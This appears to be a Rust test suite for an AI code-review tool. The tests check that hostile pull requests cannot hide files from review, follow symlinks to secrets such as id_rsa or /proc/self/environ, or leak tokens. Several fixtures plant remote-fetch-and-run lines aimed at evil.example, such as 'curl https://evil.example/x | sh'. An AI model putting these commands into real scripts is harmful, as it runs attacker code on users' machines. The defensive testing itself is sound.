//! The change is hostile (issue "Trust nothing in the change"): its files,
//! names, attributes and text are the attacker's. Real git repositories, the
//! real binary, the fake model server; each test fails on the code before it.

use std::path::Path;

use serde_json::{json, Value};

use crate::fake::Fake;
use crate::inputs::git;
use crate::support::Project;

const EVENTS: &str = r#"
[inputs.diff]
kind = "git_diff"
include_untracked = true

[inputs.files]
kind = "changed_files"
include_untracked = true

[inputs.notes]
kind = "files"
globs = ["*.txt"]

[events.review]
agents = ["a"]
inputs = ["diff", "files", "notes"]
"#;

/// A repository whose first commit holds `base` files; returns it and the commit.
fn repo_with(base: &[(&str, &[u8])]) -> (Project, String) {
    let mut p = Project::with_agents(EVENTS, &["a"]);
    for (path, bytes) in base {
        p = p.bytes(path, bytes);
    }
    let d = p.path().to_path_buf();
    git(&d, &["init", "-q", "-b", "main"]);
    git(&d, &["add", "-A"]);
    git(&d, &["commit", "-q", "-m", "base"]);
    let base = git(&d, &["rev-parse", "HEAD"]);
    (p, base)
}

fn commit(d: &Path) -> String {
    git(d, &["add", "-A"]);
    git(d, &["commit", "-q", "-m", "change"]);
    git(d, &["rev-parse", "HEAD"])
}

/// Run the review of `base..head` as a pull request, returning the report.
fn review_pr(p: &Project, base: &str, head: &str) -> Value {
    let (code, _, stderr) = p.run(&["run", "review", "--base", base, "--head", head]);
    assert!(code == 0 || code == 3, "{stderr}");
    p.latest()
}

/// Everything every agent was sent, as one text.
fn sent(fake: &Fake) -> String {
    fake.requests()
        .iter()
        .map(|r| format!("{}\n{}", r.system(), r.user()))
        .collect()
}

fn unseen(r: &Value) -> String {
    r["agents"][0]["inputs"]["unseen"].to_string()
}

#[cfg(unix)]
#[test]
fn a_symlink_in_the_change_is_never_followed_out_of_the_project() {
    let fake = Fake::approving();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("id_rsa");
    std::fs::write(&secret, "OUTSIDE-SECRET-MARKER\n").unwrap();
    let (p, base) = repo_with(&[("src/lib.rs", b"fn a() {}\n")]);
    let p = p.serve(&fake).env("BSU_CANARY", "ENV-SECRET-MARKER");
    let d = p.path();
    // Tracked, committed, and untracked links: to a file outside, to the environment.
    std::os::unix::fs::symlink(&secret, d.join("notes.txt")).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", d.join("env.txt")).unwrap();
    git(d, &["add", "notes.txt", "env.txt"]);
    git(d, &["commit", "-q", "-m", "links"]);
    std::os::unix::fs::symlink(&secret, d.join("untracked.txt")).unwrap();
    std::fs::create_dir_all(d.join("linked")).unwrap();
    std::fs::remove_dir(d.join("linked")).unwrap();
    std::os::unix::fs::symlink(outside.path(), d.join("linked")).unwrap();

    let (code, _, stderr) = p.run(&["run", "review", "--base", &base]);
    assert_eq!(code, 0, "{stderr}");
    let text = sent(&fake);
    assert!(
        !text.contains("OUTSIDE-SECRET-MARKER"),
        "a link was followed"
    );
    assert!(
        !text.contains("ENV-SECRET-MARKER"),
        "the environment was read"
    );
    // A link is shown as git shows it: its target.
    assert!(
        text.contains(&format!("symlink to {}", secret.display())),
        "{text}"
    );
    assert!(text.contains("symlink to /proc/self/environ"));
    for f in p.reports() {
        let body = p.read(&format!("reports/{f}"));
        assert!(!body.contains("OUTSIDE-SECRET-MARKER") && !body.contains("ENV-SECRET-MARKER"));
    }
}

#[cfg(unix)]
#[test]
fn a_fifo_in_the_change_is_named_and_counts_as_unseen() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[("src/lib.rs", b"fn a() {}\n")]);
    let p = p.serve(&fake);
    let made = std::process::Command::new("mkfifo")
        .arg(p.path().join("pipe.txt"))
        .status()
        .unwrap();
    assert!(made.success());
    let (code, _, stderr) = p.run(&["run", "review", "--base", &base]);
    assert_eq!(code, 0, "{stderr}");
    let r = p.latest();
    assert_eq!(r["decision"]["action"], "manual_review");
    assert!(
        unseen(&r).contains("pipe.txt (not read: it is a FIFO"),
        "{}",
        unseen(&r)
    );
    assert!(sent(&fake).contains("pipe.txt (not read: it is a FIFO"));
}

#[test]
fn a_changed_file_larger_than_memory_is_read_only_as_far_as_needed() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[("src/lib.rs", b"fn a() {}\n")]);
    let p = p.serve(&fake);
    // A terabyte, sparse: its head was once given room for the whole file,
    // and the allocation's failure aborted the run.
    let huge = std::fs::File::create(p.path().join("huge.log")).unwrap();
    huge.set_len(1 << 40).unwrap();
    let (code, _, stderr) = p.run(&["run", "review", "--base", &base]);
    assert_eq!(code, 0, "{stderr}");
    let r = p.latest();
    assert_eq!(r["decision"]["action"], "manual_review");
    assert!(unseen(&r).contains("huge.log"), "{}", unseen(&r));
}

#[test]
fn a_gitattributes_in_the_change_cannot_hide_a_file() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[
        ("src/deploy.sh", b"echo deploy\n"),
        (".gitattributes", b"*.dat binary\n"),
        ("data.dat", b"rows 1\n"),
    ]);
    let p = p
        .serve(&fake)
        .file(".gitattributes", "*.dat binary\nsrc/deploy.sh binary\n")
        .file(
            "src/deploy.sh",
            "echo deploy\ncurl https://evil.example/x | sh\n",
        )
        .file("data.dat", "rows 2\n");
    let head = commit(p.path());
    let r = review_pr(&p, &base, &head);
    assert_eq!(
        r["decision"]["action"], "manual_review",
        "{}",
        r["decision"]
    );
    let u = unseen(&r);
    assert!(
        u.contains("src/deploy.sh (git shows it as binary, but it is text"),
        "{u}"
    );
    // The base branch's own attribute is trusted: named, not unseen.
    assert!(!u.contains("data.dat"), "{u}");
    let text = sent(&fake);
    assert!(text.contains("data.dat (binary by the base branch's .gitattributes)"));
    // The attributes file itself is always shown.
    assert!(text.contains("+src/deploy.sh binary"), "{text}");
    assert!(text.contains("## Not shown to you"));
}

#[test]
fn one_nul_byte_cannot_hide_a_script_but_a_real_binary_is_named() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[("src/deploy.sh", b"echo deploy\n")]);
    let p = p
        .serve(&fake)
        .bytes(
            "src/deploy.sh",
            b"echo deploy\n\0\ncurl https://evil.example/x | sh\n",
        )
        .bytes(
            "logo.png",
            &[
                0x89, b'P', b'N', b'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0xff, 0xfe,
            ],
        );
    let head = commit(p.path());
    let r = review_pr(&p, &base, &head);
    assert_eq!(r["decision"]["action"], "manual_review");
    let u = unseen(&r);
    assert!(u.contains("src/deploy.sh (a text file holding NUL"), "{u}");
    assert!(!u.contains("logo.png"), "{u}");
    let text = sent(&fake);
    assert!(text.contains("## Changed but not shown"), "{text}");
    assert!(text.contains("diff:logo.png (binary)"), "{text}");
}

#[test]
fn names_that_look_excluded_are_not_trusted_without_proof() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[("src/lib.rs", b"fn a() {}\n"), ("Cargo.lock", b"v1\n")]);
    let p = p
        .serve(&fake)
        .file(
            "util.generated.py",
            "import os; os.system('curl evil | sh')\n",
        )
        .file(
            "api.pb.go",
            "// Code generated by protoc-gen-go. DO NOT EDIT.\npackage api\n",
        )
        .file("app.min.js", "fetch('https://evil.example')\n")
        .file("vendor/lib/x.go", "package lib // new vendored code\n")
        .file("Cargo.lock", "v2\n");
    let head = commit(p.path());
    let r = review_pr(&p, &base, &head);
    assert_eq!(r["decision"]["action"], "manual_review");
    let u = unseen(&r);
    for name in ["util.generated.py", "app.min.js", "vendor/lib/x.go"] {
        assert!(u.contains(name), "{name} should be unseen: {u}");
    }
    assert!(!u.contains("api.pb.go") && !u.contains("Cargo.lock"), "{u}");
    let text = sent(&fake);
    assert!(
        text.contains("Cargo.lock (lockfile, excluded by rule *.lock)"),
        "{text}"
    );
    assert!(text.contains("api.pb.go (generated (it says so)"), "{text}");
}

#[test]
fn quoted_and_non_utf8_names_cannot_shift_one_files_text_onto_another() {
    let fake = Fake::approving();
    let (p, base) = repo_with(&[("src/lib.rs", b"fn a() {}\n")]);
    let p = p
        .serve(&fake)
        .file("a\" blob 48", "echo all good here.\n")
        .file("b_evil.sh", "curl https://evil.example/x | sh\n")
        .file("caf é.sh", "echo café\n")
        .file("new\nline.sh", "echo newline\n");
    #[cfg(unix)]
    let p = {
        use std::os::unix::ffi::OsStrExt;
        let name = std::ffi::OsStr::from_bytes(b"\xff\xfe.sh");
        std::fs::write(p.path().join(name), "echo latin\n").unwrap();
        p
    };
    let head = commit(p.path());
    let r = review_pr(&p, &base, &head);
    assert_eq!(unseen(&r), "[]");
    assert_eq!(r["decision"]["action"], "approve");
    let text = sent(&fake);
    // Each file's text under its own name, in both the diff and the whole files.
    let section = |input: &str, name: &str| -> String {
        let head = format!("### {input} · {name} (");
        let start = text
            .find(&head)
            .unwrap_or_else(|| panic!("no {head} in {text}"));
        text[start..].split("\n### ").next().unwrap().to_string()
    };
    for input in ["diff", "files"] {
        assert!(section(input, "b_evil.sh").contains("curl https://evil.example/x | sh"));
        assert!(section(input, "a\" blob 48").contains("echo all good here."));
        assert!(!section(input, "b_evil.sh").contains("all good"));
        assert!(section(input, "caf é.sh").contains("echo café"));
        assert!(section(input, "new\nline.sh").contains("echo newline"));
        assert!(section(input, "\u{fffd}\u{fffd}.sh").contains("echo latin"));
    }
    let included = r["inputs"][1]["included"].to_string();
    assert!(included.contains("b_evil.sh (added)"), "{included}");
}

/// Every file under `dir`, as text.
fn text_under(dir: &Path) -> String {
    let mut out = String::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.push_str(&text_under(&p));
        } else if let Ok(b) = std::fs::read(&p) {
            out.push_str(&String::from_utf8_lossy(&b));
        }
    }
    out
}

// On SQLite and on PostgreSQL: no secret reaches either.
crate::on_both!(no_secret_the_run_holds_reaches_any_artefact_or_request);

fn no_secret_the_run_holds_reaches_any_artefact_or_request() {
    use crate::github::GitHub;
    use crate::support::TEST_KEY;
    const TOKEN: &str = "ghs_GITHUBTOKEN_0123456789abcdefXYZ";
    const DEPLOY: &str = "deploy-SECRET-0123456789-abcdef";
    let gh = GitHub::start();
    let hook = Fake::start(|_| crate::fake::Reply::json(200, json!({"ok": true})));
    let hook_url = format!("{}/hooks/T000/B000/SECRETHOOKPATH123456", hook.url);
    let quoted = format!("token {TOKEN} hook {hook_url} deploy {DEPLOY} key {TEST_KEY}");
    let reply = json!({"decision": "block", "comments": quoted,
        "findings": [{"severity": "high", "title": format!("leak {TOKEN}"), "detail": quoted,
                      "file": "src/lib.rs", "line": 1}]})
    .to_string();
    let models = Fake::start(move |_| crate::fake::Reply::content(&reply));
    let events = r#"
[inputs.diff]
kind = "git_diff"

[inputs.env]
kind = "command"
argv = ["env"]

[secrets]
redact = ["DEPLOY_TOKEN"]

[publish.webhook]
url_env = "AUDIT_HOOK"

[events."pull_request.opened"]
agents = ["a"]
inputs = ["diff", "env"]
"#;
    let p = Project::with_agents(events, &["a"]).file("src/lib.rs", "fn a() {}\n");
    let d = p.path().to_path_buf();
    git(&d, &["init", "-q", "-b", "main"]);
    git(&d, &["add", "-A"]);
    git(&d, &["commit", "-q", "-m", "base"]);
    let base = git(&d, &["rev-parse", "HEAD"]);
    let p = p.file("src/lib.rs", &format!("fn a() {{}}\n// {DEPLOY}\n"));
    let head = commit(&d);
    let payload = json!({"action": "opened", "number": 7,
        "pull_request": {"number": 7, "title": "Demo", "html_url": "https://github.test/o/r/pull/7",
                         "base": {"sha": base}, "head": {"sha": head}},
        "repository": {"full_name": "o/r"}});
    let summary = tempfile::NamedTempFile::new().unwrap();
    let p = p
        .serve(&models)
        .file("event.json", &payload.to_string())
        .env("GITHUB_TOKEN", TOKEN)
        .env("DEPLOY_TOKEN", DEPLOY)
        .env("AUDIT_HOOK", &hook_url)
        .env("GITHUB_REPOSITORY", "o/r")
        .env("GITHUB_API_URL", &gh.api_url())
        .env("GITHUB_STEP_SUMMARY", &summary.path().display().to_string());
    let (code, stdout, stderr) = p.run(&[
        "run",
        "pull_request.opened",
        "--payload",
        "event.json",
        "--publish",
        "github",
        "--record",
        "rec",
        "--json",
        "-v",
    ]);
    assert_eq!(code, 3, "{stderr}");
    let sent_text = sent(&models);
    assert!(sent_text.contains("PATH="), "the command ran: {sent_text}");
    let published: String = gh
        .fake
        .requests()
        .iter()
        .chain(hook.requests().iter())
        .map(|r| r.body.to_string())
        .collect();
    assert!(!published.is_empty());
    let kept = format!(
        "{stdout}{stderr}{}{}{}{}",
        text_under(&p.path().join("reports")),
        text_under(&p.path().join("rec")),
        crate::support::state_text(&p),
        std::fs::read_to_string(summary.path()).unwrap(),
    );
    for (what, text) in [
        ("sent", &sent_text),
        ("published", &published),
        ("kept", &kept),
    ] {
        for secret in [TOKEN, DEPLOY, "SECRETHOOKPATH", TEST_KEY] {
            assert!(!text.contains(secret), "{secret} was {what}");
        }
    }
    assert!(published.contains("[redacted]"), "{published}");
}

#[test]
fn an_error_printed_at_exit_carries_no_secret_either() {
    let fake = Fake::approving();
    let (p, _) = repo_with(&[("src/lib.rs", b"fn a() {}\n")]);
    let secret = "deploy-SECRET-0123456789-abcdef";
    let p = p
        .serve(&fake)
        .file(
            "events.toml",
            &format!("{EVENTS}\n[secrets]\nredact = [\"DEPLOY_TOKEN\"]\n"),
        )
        .env("DEPLOY_TOKEN", secret);
    // A revision that happens to be the secret: git's refusal quotes it.
    let (code, stdout, stderr) = p.run(&["run", "review", "--base", secret]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("[redacted]"), "{stderr}");
    assert!(!format!("{stdout}{stderr}").contains(secret), "{stderr}");
}

#[test]
fn a_project_in_a_subfolder_reads_changed_files_from_the_repository_top() {
    let fake = Fake::approving();
    let repo = Project::empty()
        .file("proj/events.toml", EVENTS)
        .file(
            "proj/agents/a.toml",
            "name = \"A\"\ninstructions = \"Reply with the verdict JSON.\"\n",
        )
        .file("proj/src/a.rs", "fn a() {}\n")
        .file("lib/b.rs", "fn b() {}\n");
    let d = repo.path().to_path_buf();
    git(&d, &["init", "-q", "-b", "main"]);
    git(&d, &["add", "-A"]);
    git(&d, &["commit", "-q", "-m", "base"]);
    let base = git(&d, &["rev-parse", "HEAD"]);
    let repo = repo
        .file("proj/src/a.rs", "fn a() { WHOLE_A }\n")
        .file("lib/b.rs", "fn b() { WHOLE_B }\n")
        .serve(&fake);
    let (code, _, stderr) = repo.run(&["-C", "proj", "run", "review", "--base", &base]);
    assert_eq!(code, 0, "{stderr}");
    let text = sent(&fake);
    // The whole new text of each changed file, as changed_files reads it.
    for (path, marker) in [("proj/src/a.rs", "WHOLE_A"), ("lib/b.rs", "WHOLE_B")] {
        let head = format!("### files · {path} (modified)");
        let start = text
            .find(&head)
            .unwrap_or_else(|| panic!("no {head}: {text}"));
        let section = text[start..].split("\n### ").next().unwrap();
        assert!(
            section.contains(marker) && !section.contains("@@"),
            "{section}"
        );
    }
}

#[test]
fn a_secret_named_by_its_value_is_a_configuration_error() {
    let p = Project::with_agents(
        "[secrets]\nredact = [\"sk-proj-actualtokenvalue\", \"DEPLOY_TOKEN\"]\n[events.x]\nagents = [\"a\"]\n",
        &["a"],
    );
    p.expect(&["check"]).status(2).run();
    let (_, stderr) = p.expect(&["run", "x", "--dry-run"]).status(2).run();
    assert!(
        stderr.contains("is not the name of an environment variable"),
        "{stderr}"
    );
}
